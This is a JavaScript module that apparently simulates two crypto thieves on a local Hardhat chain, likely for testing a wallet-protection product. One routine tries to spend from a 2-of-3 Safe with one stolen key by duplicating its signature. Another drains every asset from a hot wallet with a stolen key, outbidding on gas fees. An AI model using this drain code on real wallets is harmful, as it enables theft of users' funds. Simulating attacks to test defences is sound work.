// The two thieves, with nothing of Holdfast's code: ethers, stolen keys, and accounts of their own.
import { Contract, Interface, Signature, TypedDataEncoder, ZeroAddress, parseUnits } from "ethers";

const kErc20 = [
  "function transfer(address,uint256) returns (bool)",
  "function balanceOf(address) view returns (uint256)",
];
const kSafe = new Interface([
  `function execTransaction(address,uint256,bytes,uint8,uint256,uint256,uint256,address,address,bytes)
   payable returns (bool)`,
  "function nonce() view returns (uint256)",
]);
const kSafeTx = {
  SafeTx: [
    ["address", "to"], ["uint256", "value"], ["bytes", "data"], ["uint8", "operation"], ["uint256", "safeTxGas"],
    ["uint256", "baseGas"], ["uint256", "gasPrice"], ["address", "gasToken"], ["address", "refundReceiver"],
    ["uint256", "nonce"],
  ].map(([type, name]) => ({ type, name })),
};

const kFeesForTheRest = parseUnits("0.2", 18); // Left behind for the tokens' transactions.

/** What an account holds of each asset, from the chain: {symbol: units}. */
export async function holdings(provider, assets, holder) {
  const units = ({ contract }) =>
    contract ? new Contract(contract.target, kErc20, provider).balanceOf(holder) : provider.getBalance(holder);
  return Object.fromEntries(await Promise.all(assets.map(async (asset) => [asset.symbol, await units(asset)])));
}

/**
 * One stolen owner key of a 2-of-3 Safe: sign alone, send from an account of the thief's own. With a signature by the
 * same key twice, for good measure.
 */
export async function spend_with_one_key({ provider, safe, stolen, thief, to, amount }) {
  const nonce = await new Contract(safe, kSafe, provider).nonce();
  const fields = {
    to, value: amount, data: "0x", operation: 0, safeTxGas: 0n, baseGas: 0n, gasPrice: 0n,
    gasToken: ZeroAddress, refundReceiver: ZeroAddress, nonce,
  };
  const { chainId } = await provider.getNetwork();
  const hash = TypedDataEncoder.hash({ chainId, verifyingContract: safe }, kSafeTx, fields);
  const signature = Signature.from(stolen.signingKey.sign(hash)).serialized;
  const data = kSafe.encodeFunctionData("execTransaction", [
    ...Object.values(fields).slice(0, 9), signature + signature.slice(2),
  ]);
  const fees = { maxFeePerGas: parseUnits("50", "gwei"), maxPriorityFeePerGas: parseUnits("5", "gwei") };
  const transaction = { to: safe, data, gasLimit: 500_000n, ...fees };
  const at = Date.now();
  const sent = await thief.sendTransaction(transaction);
  return { txid: sent.hash, at };
}

/**
 * The whole key of a hot wallet: everything to one fresh address, asset by asset, as at CoinEx. When a transaction is
 * outbid the thief raises his price, up to `raises` times.
 */
export class Drain {
  constructor({ provider, stolen, loot, assets, raises = 3, pause_ms = 700, told = () => {} }) {
    Object.assign(this, { provider, stolen: stolen.connect(provider), loot, assets, raises, pause_ms, told });
    this.sent = [];
  }

  async #transaction(asset, nonce, tip) {
    const held = (await holdings(this.provider, [asset], this.stolen.address))[asset.symbol];
    const maxPriorityFeePerGas = parseUnits(String(tip), "gwei");
    const maxFeePerGas = maxPriorityFeePerGas + parseUnits("20", "gwei");
    const fees = { nonce, maxPriorityFeePerGas, maxFeePerGas, type: 2, chainId: 31337 };
    if (asset.contract) {
      const data = new Interface(kErc20).encodeFunctionData("transfer", [this.loot, held]);
      return { to: asset.contract.target, data, value: 0n, gasLimit: 100_000n, ...fees };
    }
    return { to: this.loot, value: held - kFeesForTheRest, gasLimit: 21_000n, ...fees };
  }

  async #send(asset, nonce, tip) {
    const transaction = await this.#transaction(asset, nonce, tip);
    if (transaction.value < 0n) return; // Nothing worth it is left.
    const raw = await this.stolen.signTransaction(transaction);
    const at = Date.now();
    try {
      const txid = await this.provider.send("eth_sendRawTransaction", [raw]);
      this.sent.push({ asset: asset.symbol, txid, at, tip });
      this.told(this.sent.at(-1));
    } catch {
      // Outbid already, or the nonce is used: the node does not take it.
    }
  }

  /** Sends every asset's transaction, a pause apart, then fights over each nonce. */
  async run() {
    const first = await this.provider.getTransactionCount(this.stolen.address);
    for (let raise = 0; raise <= this.raises; ++raise) {
      for (const [i, asset] of this.assets.entries()) {
        await this.#send(asset, first + i, 3 * 1.5 ** raise);
        if (raise === 0) await new Promise((resolve) => setTimeout(resolve, this.pause_ms));
      }
      await new Promise((resolve) => setTimeout(resolve, this.pause_ms));
    }
  }
}
